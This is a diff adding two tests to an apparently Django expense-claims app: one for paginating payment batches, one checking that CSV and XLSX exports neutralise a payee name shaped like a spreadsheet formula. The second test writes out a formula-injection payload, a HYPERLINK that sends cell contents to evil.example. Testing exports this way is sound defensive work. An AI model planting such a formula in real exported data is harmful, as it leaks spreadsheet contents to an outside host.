@@ -262,3 +262,36 @@ def test_the_chair_cannot_make_export_or_pay_a_batch(client_as, chair, batch):
     assert client.post(f"/claims/payments/{batch.pk}/paid/", {"paid_on": "2022-06-30"}).status_code == 403
     batch.refresh_from_db()
     assert batch.paid_on is None
+
+
+def test_the_payments_page_shows_every_batch_newest_first_25_a_page(client_as, treasurer):
+    made = [PaymentBatch.objects.create(created_by=treasurer) for _ in range(55)]
+    newest_first = [batch.pk for batch in reversed(made)]
+    client = client_as(treasurer)
+
+    pages = [client.get("/claims/payments/", {"page": number}) for number in (1, 2, 3)]
+
+    assert [[batch.pk for batch in page.context["batches"]] for page in pages] == [
+        newest_first[:25],
+        newest_first[25:50],
+        newest_first[50:],  # the oldest five, which the page used to leave out
+    ]
+    assert 'href="?page=2"' in pages[0].text
+    assert 'href="?page=2"' in pages[2].text
+    assert 'aria-current="page"' in pages[1].text
+
+
+def test_a_payee_name_that_looks_like_a_formula_stays_text_in_the_csv_and_the_xlsx(client_as, treasurer, batch, member):
+    member.member.first_name = '=HYPERLINK("https://evil.example/?"&A1,"Klikkaa")'
+    member.member.save()
+    client = client_as(treasurer)
+
+    text = b"".join(client.get(f"/claims/payments/{batch.pk}.csv").streaming_content).decode("utf-8-sig")
+    sheet = load_workbook(BytesIO(client.get(f"/claims/payments/{batch.pk}.xlsx").content)).active
+
+    payees = [row[1] for row in list(csv.reader(StringIO(text), delimiter=";"))[1:]]
+    assert "'=HYPERLINK" in next(payee for payee in payees if "HYPERLINK" in payee)
+    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
+    cell = next(cell for cell in cells if "HYPERLINK" in str(cell.value))
+    assert cell.data_type == "s"
+    assert cell.value.startswith("'")
